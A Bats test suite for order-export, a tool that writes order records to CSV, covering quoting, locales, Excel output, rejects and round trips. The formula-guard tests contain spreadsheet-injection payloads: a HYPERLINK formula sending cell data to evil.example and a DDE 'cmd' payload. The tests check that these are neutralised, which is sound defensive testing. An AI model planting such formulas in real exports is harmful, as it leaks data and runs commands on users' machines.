#!/usr/bin/env bats
# order-export: records to CSV (columns, amounts by exponent, RFC 4180
# quoting, line ends, --excel and the locale, the formula guard), rejects,
# exit codes, the man page's examples, and back through order-import.
bats_require_minimum_version 1.5.0

setup() {
	load test_helper/common
	REJECTS="$BATS_TEST_TMPDIR/rejects.jsonl"
	OUT="$BATS_TEST_TMPDIR/out.csv"
	MAP="$BATS_TEST_DIRNAME/../scripts/maps/orderkit.map"
}

# export_to FILE ARG...: order-export ARG... with standard output in FILE
# (bytes as they are: CRs and the BOM, which $output would not keep).
export_to() {
	local file=$1
	shift
	order-export "$@" >"$file"
}

# hex FILE: the bytes of FILE as hex, for the CRs and the BOM.
hex() {
	od -An -tx1 "$1" | tr -d ' \n'
}

# same_orders A B: the records of A and B (JSON lines) are the same orders:
# ids, timestamps, currencies, contacts, addresses, payments, items (sku,
# name, variant, qty, prices) and totals, an empty string being none (as
# order-import writes none) and an absent tax 0.
same_orders() {
	local norm='del(.. | select(. == "")) | {id, created_at, currency,
	    customer, shipping, payment: (.payment | {method, provider, status}),
	    items: [.items[] | {sku, name, variant, qty, unit_price, discount}
	        | with_entries(select(.value != null))],
	    totals: (.totals | {subtotal, shipping, discount, total,
	        tax: (.tax // 0), tax_included})}'
	assert_equal "$(jq -c "$norm" "$2")" "$(jq -c "$norm" "$1")"
}

# ------------------------------------------------------------ the columns

@test "a row per order: the default columns, amounts as decimals" {
	run -0 --separate-stderr order-export "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_output "$(cat "$FIXTURES/orders.csv")"
	assert_line --index 0 --partial 'id,created_at,status,currency,customer.name,'
	assert_equal "${#lines[@]}" 5
}

@test "a row per item repeats the order's columns on each" {
	run -0 --separate-stderr order-export --per item "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_output "$(cat "$FIXTURES/orders-items.csv")"
	assert_equal "${#lines[@]}" 7
	assert_line --index 1 --regexp '^SHOP-1001,.*,3297.00,TSHIRT-RED-M,Футболка,color: red; size: M,2,1299.00,$'
	assert_line --index 2 --regexp '^SHOP-1001,.*,3297.00,MUG-WHITE,"Кружка ""Утро""",,1,499.00,100.00$'
}

@test "amounts go by the currency's exponent: JPY none, KWD three, USD two" {
	run -0 --separate-stderr order-export --per item \
	    --columns id,currency,items.unit_price,totals.total \
	    "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_output 'id,currency,items.unit_price,totals.total
SHOP-1001,RUB,1299.00,3297.00
SHOP-1001,RUB,499.00,3297.00
JP-77,JPY,1500,4500
KW-5,KWD,12.750,14.260
KW-5,KWD,0.005,14.260
US-9,USD,12.99,19.06'
}

@test "negative amounts and numbers that are not amounts" {
	printf '%s\n' '{"id":"N-1","currency":"KWD","totals":{"total":-5,"discount":-1234567},"items":[{"qty":3,"weight_kg":1.25}],"n":-0}' >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export \
	    --columns totals.total,totals.discount,items.qty,items.weight_kg,n \
	    "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr ''
	assert_output 'totals.total,totals.discount,items.qty,items.weight_kg,n
-0.005,-1234.567,3,1.25,-0'
}

@test "--columns chooses, renames, indexes and joins" {
	run -0 --separate-stderr order-export --columns \
	    'id:Order,items.sku:SKUs,items.unit_price:Prices,items[1].name:Second,customer.email' \
	    "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_output 'Order,SKUs,Prices,Second,customer.email
SHOP-1001,TSHIRT-RED-M | MUG-WHITE,1299.00 | 499.00,"Кружка ""Утро""",ivan.petrov@example.ru
JP-77,TEA-SENCHA,1500,,yuki@example.jp
KW-5,OUD-50 | BOX,12.750 | 0.005,Gift box,
US-9,MUG-WHITE,12.99,,jo@example.com'
}

@test "--columns given twice adds columns; a backslash escapes . , : [" {
	printf '%s\n' '{"id":"E-1","extra":{"Billing.Name":"Ann","a:b":"x","c,d":"y","e[0]":"z"}}' >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export --columns 'id' \
	    --columns 'extra.Billing\.Name:Billing name,extra.a\:b:A\:B,extra.c\,d:C\,D,extra.e\[0]' \
	    "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr ''
	assert_output 'id,Billing name,A:B,"C,D",extra.e[0]
E-1,Ann,x,y,z'
}

@test "objects of scalars are key: value; others and arrays within are JSON" {
	printf '%s\n' '{"id":"O-1","currency":"USD","tags":["gift","vip"],"totals":{"subtotal":1000,"total":1200},"extra":{"a":{"b":1}},"flag":true,"none":null,"lines":[[1,2],{"k":"v"}]}' >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export \
	    --columns tags,totals,extra,flag,none,missing.path,lines \
	    "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr ''
	assert_output 'tags,totals,extra,flag,none,missing.path,lines
gift | vip,subtotal: 10.00; total: 12.00,"{""a"":{""b"":1}}",true,,,"[1,2] | k: v"'
}

@test "with --per item, items. is the row's item; items[N] stays the order's" {
	run -0 --separate-stderr order-export --per item \
	    --columns id,items.sku,items[0].sku,items.variant.size \
	    "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_output 'id,items.sku,items[0].sku,items.variant.size
SHOP-1001,TSHIRT-RED-M,TSHIRT-RED-M,M
SHOP-1001,MUG-WHITE,TSHIRT-RED-M,
JP-77,TEA-SENCHA,TEA-SENCHA,
KW-5,OUD-50,OUD-50,50 ml
KW-5,BOX,OUD-50,
US-9,MUG-WHITE,MUG-WHITE,'
}

@test "a path of 32 steps is followed through an array at each; 33 is usage" {
	local v='[{"a":1},{"b":"x"}]' i path=x
	for ((i = 0; i < 31; i++)); do
		v="[{\"k\":$v}]"
		path=$path.k
	done
	echo "{\"id\":\"D-1\",\"x\":${v:1:${#v}-2}}" >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export --no-header --columns "$path" \
	    "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr ''
	assert_output 'a: 1 | b: x'
	run -64 --separate-stderr order-export --columns "$path.a" \
	    "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr --partial "order-export: --columns: cannot read '$path.a'"
}

@test "an order without items still gets a row per item: one, its item columns empty" {
	printf '%s\n' '{"id":"NI-1","currency":"USD"}' '{"id":"NI-2","items":[]}' \
	    '{"id":"NI-3","items":null}' >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export --per item \
	    --columns id,items.sku,items.qty "$BATS_TEST_TMPDIR/in.jsonl"
	assert_stderr ''
	assert_output 'id,items.sku,items.qty
NI-1,,
NI-2,,
NI-3,,'
}

@test "a column that does not parse, or a bad option value, is usage: 64" {
	local bad
	for bad in 'id,a..b' 'id:' '.id' 'items[x]' 'items[1' 'items.' ''; do
		run -64 --separate-stderr order-export --columns "$bad" \
		    "$FIXTURES/orders.jsonl"
		assert_output ''
		assert_stderr --partial "order-export: --columns: cannot read"
		assert_stderr --partial 'usage: order-export [--columns LIST]'
	done
	run -64 --separate-stderr order-export --per line "$FIXTURES/orders.jsonl"
	assert_stderr --partial "order-export: --per 'line' is not order or item"
	run -64 --separate-stderr order-export --decimal ';' "$FIXTURES/orders.jsonl"
	assert_stderr --partial "order-export: --decimal ';' is not '.' or ','"
	run -64 --separate-stderr order-export --delimiter '"' "$FIXTURES/orders.jsonl"
	assert_stderr --partial "order-export: --delimiter '\"' is not one character or 'tab'"
	run -64 --separate-stderr order-export --delimiter ab "$FIXTURES/orders.jsonl"
	assert_stderr --partial "is not one character or 'tab'"
	run -64 --separate-stderr order-export --decimal , --delimiter , \
	    "$FIXTURES/orders.jsonl"
	assert_output ''
	assert_stderr --partial "order-export: the decimal separator and the delimiter are both ','"
	run -64 --separate-stderr order-export --no-such-option
	assert_output ''
	assert_stderr --partial 'usage: order-export'
}

# ---------------------------------------------------------------- the CSV

@test "RFC 4180: a field with the delimiter, a quote, CR or LF is quoted, quotes doubled" {
	printf '%s\n' '{"id":"Q-1","a":"x,y","b":"say \"hi\"","c":"one\ntwo","d":"cr\rhere","e":"semi;colon","f":" spaced "}' >"$BATS_TEST_TMPDIR/in.jsonl"
	export_to "$OUT" --columns a,b,c,d,e,f "$BATS_TEST_TMPDIR/in.jsonl"
	assert_equal "$(cat -A "$OUT")" 'a,b,c,d,e,f$
"x,y","say ""hi""","one$
two","cr^Mhere",semi;colon, spaced $'
	export_to "$OUT" --columns a,e --delimiter ';' "$BATS_TEST_TMPDIR/in.jsonl"
	assert_equal "$(cat "$OUT")" 'a;e
x,y;"semi;colon"'
	export_to "$OUT" --columns a,e --delimiter tab "$BATS_TEST_TMPDIR/in.jsonl"
	assert_equal "$(cat "$OUT")" "a	e
x,y	semi;colon"
}

@test "lines end in LF; --crlf ends them in CRLF, a line feed within a field stays" {
	printf '%s\n' '{"id":"L-1","note":"a\nb"}' >"$BATS_TEST_TMPDIR/in.jsonl"
	export_to "$OUT" --columns id,note "$BATS_TEST_TMPDIR/in.jsonl"
	assert_equal "$(hex "$OUT")" "$(printf 'id,note\nL-1,"a\nb"\n' | od -An -tx1 | tr -d ' \n')"
	export_to "$OUT" --crlf --columns id,note "$BATS_TEST_TMPDIR/in.jsonl"
	assert_equal "$(hex "$OUT")" "$(printf 'id,note\r\nL-1,"a\nb"\r\n' | od -An -tx1 | tr -d ' \n')"
}

@test "--no-header writes the rows alone; an empty input writes the header alone" {
	run -0 --separate-stderr order-export --no-header --columns id \
	    "$FIXTURES/orders.jsonl"
	assert_output 'SHOP-1001
JP-77
KW-5
US-9'
	run -0 --separate-stderr order-export --columns id </dev/null
	assert_stderr ''
	assert_output 'id'
	# Nor a second BOM in the middle of a file appended to.
	export_to "$OUT" --excel --no-header --columns id "$FIXTURES/orders.jsonl"
	assert_equal "$(head -c 3 "$OUT")" SHO
	assert_equal "$(head -n 1 "$OUT")" $'SHOP-1001\r'
}

# ------------------------------------------------------- Excel and locale

@test "--excel in a decimal-comma locale: BOM, ';', decimal commas, CRLF" {
	LC_ALL= LANG=ru_RU.UTF-8 export_to "$OUT" --excel --per item \
	    --columns id,customer.name,items.unit_price,totals.total \
	    "$FIXTURES/orders.jsonl"
	assert_equal "$(head -c 3 "$OUT" | od -An -tx1 | tr -d ' ')" efbbbf
	assert_equal "$(tail -c +4 "$OUT" | tr -d '\r')" 'id;customer.name;items.unit_price;totals.total
SHOP-1001;Иван Петров;1299,00;3297,00
SHOP-1001;Иван Петров;499,00;3297,00
JP-77;Sato Yuki;1500;4500
KW-5;Fatima Al-Sabah;12,750;14,260
KW-5;Fatima Al-Sabah;0,005;14,260
US-9;Jo O'"'"'Neil;12,99;19,06'
	assert_equal "$(grep -c $'\r$' "$OUT")" 7
}

@test "--excel in a decimal-point locale: BOM, ',', points, CRLF" {
	export_to "$OUT" --excel --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_equal "$(hex "$OUT")" "$(printf '\357\273\277id,totals.total\r\nSHOP-1001,3297.00\r\nJP-77,4500\r\nKW-5,14.260\r\nUS-9,19.06\r\n' | od -An -tx1 | tr -d ' \n')"
}

@test "the locale is LC_ALL, else LC_NUMERIC, else LANG, read from its name" {
	local env want
	# "ENV... : delimiter decimal"
	while IFS=: read -r env want; do
		# shellcheck disable=SC2086 # env holds several assignments
		env -u LC_ALL -u LC_NUMERIC -u LANG $env order-export --excel \
		    --columns totals.total "$FIXTURES/orders.jsonl" >"$OUT"
		assert_equal "$env: $(sed -n 2p "$OUT" | tr -d '\r')" "$env: $want"
	done <<-'EOF'
	LANG=ru_RU.UTF-8:3297,00
	LANG=uk_UA.UTF-8:3297,00
	LANG=de_DE.UTF-8:3297,00
	LANG=de_DE@euro:3297,00
	LANG=pt_BR.UTF-8:3297,00
	LANG=fr:3297,00
	LANG=de_CH.UTF-8:3297.00
	LANG=fr_CH.UTF-8:3297.00
	LANG=es_MX.UTF-8:3297.00
	LANG=es_ES.UTF-8:3297,00
	LANG=en_US.UTF-8:3297.00
	LANG=en_DK.UTF-8:3297,00
	LANG=C.UTF-8:3297.00
	LANG=POSIX:3297.00
	LANG=:3297.00
	LC_ALL=C LANG=ru_RU.UTF-8:3297.00
	LC_ALL= LANG=ru_RU.UTF-8:3297,00
	LC_NUMERIC=de_DE.UTF-8 LANG=en_US.UTF-8:3297,00
	LC_NUMERIC=en_US.UTF-8 LANG=de_DE.UTF-8:3297.00
	LC_ALL=ru_RU.UTF-8 LC_NUMERIC=en_US.UTF-8:3297,00
	EOF
}

@test "--config: [shop] lang decides --excel's decimal separator, over the locale" {
	local conf="$BATS_TEST_TMPDIR/shop.conf"
	printf '[shop]\nlang = ru\n' >"$conf"
	# LC_ALL=C names no comma; the shop's language does
	run -0 --separate-stderr order-export --config "$conf" --excel \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_stderr ''
	assert_equal "$(sed -n 2p <<<"$output" | tr -d '\r')" 'SHOP-1001;3297,00'
	# it wins over a locale that has a point, and the environment over it
	LC_ALL=en_US.UTF-8 run -0 --separate-stderr order-export \
	    --config "$conf" --excel --columns id,totals.total \
	    "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p <<<"$output" | tr -d '\r')" 'SHOP-1001;3297,00'
	ORDERKIT_SHOP_LANG=de_CH run -0 --separate-stderr order-export \
	    --config "$conf" --excel --columns id,totals.total \
	    "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p <<<"$output" | tr -d '\r')" 'SHOP-1001,3297.00'
	# found by ORDERKIT_CONFIG, as by every program
	ORDERKIT_CONFIG=$conf run -0 --separate-stderr order-export --excel \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p <<<"$output" | tr -d '\r')" 'SHOP-1001;3297,00'
	# --decimal still wins; without --excel the language changes nothing
	run -0 --separate-stderr order-export --config "$conf" --excel \
	    --decimal . --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p <<<"$output" | tr -d '\r')" 'SHOP-1001,3297.00'
	run -0 --separate-stderr order-export --config "$conf" \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_line --index 1 'SHOP-1001,3297.00'
}

@test "--config: a file that cannot be read, or a [shop] lang that is no language, exits 78" {
	run -78 --separate-stderr order-export --config "$BATS_TEST_TMPDIR/none.conf" \
	    "$FIXTURES/orders.jsonl"
	assert_output ''
	assert_stderr "order-export: cannot open config '$BATS_TEST_TMPDIR/none.conf': No such file or directory"
	printf '[shop]\nlang = Russian\n' >"$BATS_TEST_TMPDIR/bad.conf"
	run -78 --separate-stderr order-export --config "$BATS_TEST_TMPDIR/bad.conf" \
	    --excel "$FIXTURES/orders.jsonl"
	assert_output ''
	assert_stderr "order-export: [shop] lang 'Russian' is not a language such as ru or de_CH"
}

@test "--decimal and --delimiter override the locale, with or without --excel" {
	LC_ALL=ru_RU.UTF-8 export_to "$OUT" --excel --decimal . \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p "$OUT" | tr -d '\r')" 'SHOP-1001,3297.00'
	LC_ALL=ru_RU.UTF-8 export_to "$OUT" --excel --delimiter tab \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_equal "$(sed -n 2p "$OUT" | tr -d '\r')" 'SHOP-1001	3297,00'
	run -0 --separate-stderr order-export --decimal , \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_line --index 1 'SHOP-1001;3297,00'
	run -0 --separate-stderr order-export --decimal , --delimiter tab \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_line --index 1 'SHOP-1001	3297,00'
	LC_ALL=ru_RU.UTF-8 run -0 --separate-stderr order-export \
	    --columns id,totals.total "$FIXTURES/orders.jsonl"
	assert_line --index 1 'SHOP-1001,3297.00'
}

# ------------------------------------------------------ the formula guard

@test "a field a spreadsheet would run as a formula is written after a '" {
	run -0 --separate-stderr order-export --per item \
	    --columns customer.name,customer.email,customer.phone,shipping.address.city,shipping.address.line1,items.sku,items.name,items.unit_price \
	    "$FIXTURES/hostile.jsonl"
	assert_stderr ''
	assert_output "customer.name,customer.email,customer.phone,shipping.address.city,shipping.address.line1,items.sku,items.name,items.unit_price
\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@evil.example,'+7 916 123-45-67,'-2+3,'+cmd|' /C calc'!A0,'=SKU,'	Tab,2.50"
}

@test "numbers are no formulas: a phone in E.164 and a negative amount are left alone" {
	printf '%s\n' '{"id":"-5","currency":"USD","customer":{"phone":"+79161234567"},"totals":{"total":-1250},"n":"-1.5e3"}' >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-export --decimal , \
	    --columns id,customer.phone,totals.total,n "$BATS_TEST_TMPDIR/in.jsonl"
	assert_output 'id;customer.phone;totals.total;n
-5;+79161234567;-12,50;-1.5e3'
}

@test "the guard is on with --excel, --no-guard turns it off, headers are guarded too" {
	export_to "$OUT" --excel --columns 'customer.name:=Name' \
	    "$FIXTURES/hostile.jsonl"
	assert_equal "$(tail -c +4 "$OUT" | tr -d '\r')" "'=Name
\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
	run -0 --separate-stderr order-export --no-guard \
	    --columns 'customer.name:=Name,customer.email,shipping.address.city' \
	    "$FIXTURES/hostile.jsonl"
	assert_output '=Name,customer.email,shipping.address.city
"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@evil.example,-2+3'
}

# -------------------------------------------------------- back to records

@test "order-import --map orderkit.map reads --per item back: the same orders" {
	export_to "$OUT" --per item "$FIXTURES/orders.jsonl"
	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
	assert_stderr ''
	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
	same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
	assert_equal "$(jq -c '[.source, .status, .source_status.order]' \
	    "$BATS_TEST_TMPDIR/back.jsonl" | paste -sd ' ')" \
	    '["orderkit","new","validated"] ["orderkit","new","paid"] ["orderkit","new","reserved"] ["orderkit","new","new"]'
	# The tax the JPY prices include stays included.
	assert_equal "$(jq -c 'select(.id == "JP-77") | .totals' \
	    "$BATS_TEST_TMPDIR/back.jsonl")" \
	    '{"subtotal":4500,"shipping":0,"discount":0,"tax":0,"tax_included":409,"total":4500}'
}

@test "order-import reads order-export's CSV back without a map: the format orderkit" {
	export_to "$OUT" --per item "$FIXTURES/orders.jsonl"
	run -0 --separate-stderr order-import "$OUT"
	assert_stderr ''
	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
	same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
	run -0 --separate-stderr order-import --format orderkit "$OUT"
	assert_equal "$output" "$(cat "$BATS_TEST_TMPDIR/back.jsonl")"
	run -0 --separate-stderr order-import --list-formats
	assert_output --partial "orderkit       order-export's CSV"
}

@test "the format orderkit reads chosen columns and --per order, which a map file would refuse" {
	export_to "$OUT" --columns id,currency,totals.total,customer.email \
	    "$FIXTURES/orders.jsonl"
	run -0 --separate-stderr order-import --format orderkit "$OUT"
	assert_stderr ''
	assert_equal "$(echo "$output" | jq -c '[.id, .currency, .totals.total]' | head -n 1)" \
	    "$(jq -c '[.id, .currency, .totals.total]' "$FIXTURES/orders.jsonl" | head -n 1)"
	run -65 --separate-stderr order-import --map "$MAP" "$OUT"
	assert_stderr --partial "does not fit the map"
}

@test "the round trip holds with --excel in a decimal-comma locale, with --crlf and with tabs" {
	local opts
	for opts in "--excel" "--crlf" "--delimiter tab" "--decimal , --excel"; do
		# shellcheck disable=SC2086 # opts holds several words
		LC_ALL=de_DE.UTF-8 export_to "$OUT" --per item $opts \
		    "$FIXTURES/orders.jsonl"
		run -0 --separate-stderr order-import --map "$MAP" "$OUT"
		assert_stderr ''
		echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
		same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
	done
}

@test "the round trip holds for a thousand generated orders" {
	"$BATS_TEST_DIRNAME/bench/gen-orders" 1000 |
	    jq -c 'select(all(.items[]; .qty > 0))' >"$BATS_TEST_TMPDIR/in.jsonl"
	export_to "$OUT" --per item "$BATS_TEST_TMPDIR/in.jsonl"
	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
	assert_stderr ''
	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
	assert_equal "$(count_lines "$BATS_TEST_TMPDIR/back.jsonl")" \
	    "$(count_lines "$BATS_TEST_TMPDIR/in.jsonl")"
	same_orders "$BATS_TEST_TMPDIR/in.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
}

@test "a guarded phone comes back without its '; --no-guard brings any text back as it was" {
	export_to "$OUT" --per item "$FIXTURES/hostile.jsonl"
	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
	assert_stderr ''
	assert_equal "$(jq -r '.customer.phone, .customer.name' <<<"$output")" \
	    "+7 916 123-45-67
'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	export_to "$OUT" --per item --no-guard "$FIXTURES/hostile.jsonl"
	run -0 --separate-stderr order-import --map "$MAP" "$OUT"
	assert_stderr ''
	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
	# order-import trims the white space around a field: the tab too.
	jq -c '.items[0].name |= ltrimstr("\t")' "$FIXTURES/hostile.jsonl" \
	    >"$BATS_TEST_TMPDIR/want.jsonl"
	same_orders "$BATS_TEST_TMPDIR/want.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
}

# ---------------------------------------------------------------- rejects

@test "records that are not orders are rejected with their codes and fields" {
	run -0 --separate-stderr order-export --per item --rejects "$REJECTS" \
	    --columns id,totals.total,items.unit_price "$FIXTURES/not-orders.jsonl"
	assert_stderr ''
	assert_output 'id,totals.total,items.unit_price
OK-1,1.00,1.00
12345,100,
NOCUR-1,,'
	run -0 jq -c '[.id // .line, [.errors[] | .code + " " + (.field // "-")]]' \
	    "$REJECTS"
	assert_output '[null,["missing_field id"]]
[{"n":1},["bad_type id"]]
["CUR-1",["bad_currency currency"]]
["CUR-2",["missing_field currency"]]
["AMT-1",["bad_amount totals.total","bad_amount items[0].unit_price"]]
["ITEMS-1",["bad_type items"]]
["ITEMS-2",["bad_type items[1]"]]
[9,["bad_json -"]]'
	run -0 jq -r 'select(.id == "CUR-1" or .id == "AMT-1") | .errors[].message' \
	    "$REJECTS"
	assert_output "'XYZ' is not an ISO 4217 currency code
totals.total is \"12.50\", not a whole number of minor units
items[0].unit_price is 12.5, not a whole number of minor units"
}

@test "a reject keeps the record as it was, with its errors added" {
	run -0 --separate-stderr order-export --rejects "$REJECTS" \
	    "$FIXTURES/not-orders.jsonl"
	assert_equal "$(jq -c 'select(.id == "CUR-1") | del(.errors, .rejected_by)' \
	    "$REJECTS")" "$(sed -n 4p "$FIXTURES/not-orders.jsonl")"
	assert_equal "$(jq -r 'select(.id == "CUR-1") | .rejected_by' \
	    "$REJECTS")" order-export
}

@test "only the columns written are checked: per order, items are not" {
	run -0 --separate-stderr order-export --rejects "$REJECTS" \
	    --columns id "$FIXTURES/not-orders.jsonl"
	assert_equal "${#lines[@]}" 9
	assert_equal "$(jq -r '.errors[].code' "$REJECTS" | paste -sd ' ')" \
	    'missing_field bad_type bad_json'
}

@test "without --rejects, rejects go to standard error; --strict exits 65; --stats counts" {
	run -65 --separate-stderr order-export --strict --stats \
	    --columns id,totals.total "$FIXTURES/not-orders.jsonl"
	assert_equal "${#lines[@]}" 6
	assert_equal "$(grep -c '"errors"' <<<"$stderr")" 6
	assert_stderr --partial 'order-export: 11 read, 5 orders in 5 rows, 6 rejected'
	run -0 --separate-stderr order-export --stats --per item \
	    --rejects "$REJECTS" "$FIXTURES/orders.jsonl"
	assert_stderr 'order-export: 4 read, 4 orders in 6 rows, 0 rejected'
	run -0 --separate-stderr order-export --strict "$FIXTURES/orders.jsonl"
	assert_stderr ''
}

@test "broken inputs: every non-blank line is a row or a reject, never a crash" {
	load test_helper/broken
	broken_lines order-export --no-header --columns id
}

# ------------------------------------------------------ failure on purpose

@test "an unreadable operand exits 66 and the other operands are still read" {
	run -66 --separate-stderr order-export --columns id \
	    "$BATS_TEST_TMPDIR/missing.jsonl" "$FIXTURES/orders.jsonl"
	assert_equal "${#lines[@]}" 5
	assert_stderr "order-export: cannot open '$BATS_TEST_TMPDIR/missing.jsonl': No such file or directory"
	mkdir "$BATS_TEST_TMPDIR/dir"
	run -66 --separate-stderr order-export --strict --columns id \
	    "$BATS_TEST_TMPDIR/dir" "$FIXTURES/not-orders.jsonl"
	assert_stderr --partial "order-export: cannot read '$BATS_TEST_TMPDIR/dir': Is a directory"
}

@test "an uncreatable --rejects file exits 73 before anything is written" {
	run -73 --separate-stderr order-export \
	    --rejects "$BATS_TEST_TMPDIR/no/such/dir/r.jsonl" "$FIXTURES/orders.jsonl"
	assert_output ''
	assert_stderr "order-export: cannot open '$BATS_TEST_TMPDIR/no/such/dir/r.jsonl': No such file or directory"
}

@test "a write error on standard output exits 74" {
	run -74 --separate-stderr sh -c 'order-export "$1" >/dev/full' sh \
	    "$FIXTURES/orders.jsonl"
	assert_output ''
	assert_stderr --partial "order-export: cannot write '<stdout>': No space left"
	run -74 --separate-stderr order-export --rejects /dev/full \
	    "$FIXTURES/not-orders.jsonl"
	assert_stderr --partial "order-export: cannot write '/dev/full': No space left on device"
}

@test "operands are read in turn, - is standard input" {
	run -0 --separate-stderr order-export --columns id \
	    "$FIXTURES/orders.jsonl" - <"$FIXTURES/hostile.jsonl"
	assert_output 'id
SHOP-1001
JP-77
KW-5
US-9
EVIL-1'
}

@test "--help prints the usage on standard output, --version the version" {
	run -0 --separate-stderr order-export --help
	assert_stderr ''
	assert_line --index 0 'usage: order-export [--columns LIST] [--config FILE] [--crlf]'
	run -0 --separate-stderr order-export --version
	assert_output --regexp '^order-export \(orderkit\) [0-9]+\.[0-9]+\.[0-9]+$'
}

@test "the usage is the man page's SYNOPSIS" {
	local page="$BATS_TEST_DIRNAME/../man/order-export.1" opt usage
	run -0 --separate-stderr order-export --help
	usage=$(sed '/^$/q' <<<"$output")
	for opt in $(grep -o -- '--[a-z-]*' <<<"$usage" | sort -u); do
		grep -q -- "^\.Op Fl .*\\\\${opt#-}\( \|$\)" "$page" ||
		    fail "$opt is in the usage, not in the SYNOPSIS"
		grep -q -- "^\.It Fl \\\\${opt#-}" "$page" ||
		    fail "$opt is not under OPTIONS"
	done
	assert_equal "$(grep -o '^\.Op Fl .*' "$page" | grep -o -- '\\-[a-z-]*' |
	    wc -l)" "$(grep -o -- '--[a-z-]*' <<<"$usage" | grep -vc -- '--help')"
}

# --------------------------------------------------------------- examples

@test "example: the day's orders for a spreadsheet, in the shop's locale" {
	cd "$BATS_TEST_TMPDIR"
	cp "$FIXTURES/orders.jsonl" orders.jsonl
	run -0 --separate-stderr env -u LC_ALL sh -c \
	    'LANG=ru_RU.UTF-8 order-export --excel orders.jsonl > orders.csv'
	assert_stderr ''
	assert_equal "$(head -c 3 orders.csv | od -An -tx1 | tr -d ' ')" efbbbf
	assert_equal "$(sed -n 2p orders.csv | tr -d '\r')" \
	    'SHOP-1001;2026-11-20T10:15:00+03:00;validated;RUB;Иван Петров;ivan.petrov@example.ru;+79161234567;courier;cdek;;RU;Москва;Москва;101000;ул. Тверская, 1;кв. 5;card;yookassa;paid;3097,00;300,00;100,00;;;3297,00'
}

@test "example: customers for a CRM import, with its column names" {
	cd "$BATS_TEST_TMPDIR"
	cp "$FIXTURES/orders.jsonl" orders.jsonl
	run -0 --separate-stderr sh -c \
	    'order-export --columns id:Order,customer.name:Name,customer.email:Email \
	    --columns totals.total:Amount,currency:Currency orders.jsonl > crm.csv'
	assert_stderr ''
	assert_equal "$(cat crm.csv)" "Order,Name,Email,Amount,Currency
SHOP-1001,Иван Петров,ivan.petrov@example.ru,3297.00,RUB
JP-77,Sato Yuki,yuki@example.jp,4500,JPY
KW-5,Fatima Al-Sabah,,14.260,KWD
US-9,Jo O'Neil,jo@example.com,19.06,USD"
}

@test "example: a row per item, and back into records" {
	cp "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/orders.jsonl"
	cd "$BATS_TEST_DIRNAME/.."
	run -0 --separate-stderr sh -c '
	    order-export --per item "$1/orders.jsonl" > "$1/items.csv"
	    order-import "$1/items.csv"' sh \
	    "$BATS_TEST_TMPDIR"
	assert_stderr ''
	echo "$output" >"$BATS_TEST_TMPDIR/back.jsonl"
	same_orders "$FIXTURES/orders.jsonl" "$BATS_TEST_TMPDIR/back.jsonl"
}
